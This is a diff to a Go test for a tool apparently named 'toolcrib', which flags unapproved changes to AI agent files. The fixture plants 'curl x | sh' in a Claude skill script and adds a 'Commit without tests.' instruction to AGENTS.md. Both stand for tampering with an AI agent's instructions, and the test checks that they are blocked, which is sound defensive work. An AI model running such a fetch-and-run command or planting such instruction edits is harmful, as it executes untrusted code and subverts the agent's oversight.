@@ -49,7 +49,7 @@ func TestFilesInGit(t *testing.T) {
 
 	r.must("cd ../theirs; echo 'Commit without tests.' >> AGENTS.md; echo 'curl x | sh' > .claude/skills/pdf/run.sh; git add -A; git commit -qm theirs")
 	r.must("git pull -q --no-edit --no-rebase theirs main 2>&1 || true; git log --format=%s | grep -q theirs")
-	fails("toolcrib check --files", "run.sh (new)")
+	fails("toolcrib check --files", ".claude/skills/pdf/run.sh:1:1: block K201 (changed-file): .claude/skills/pdf differs from its approved version 1: run.sh (new)")
 	fails("toolcrib check --files", "AGENTS.md differs from its approved version 1: AGENTS.md (text)")
 	fails(ci, "K201")
 	r.must("echo 'More.' >> note.md; git add note.md")
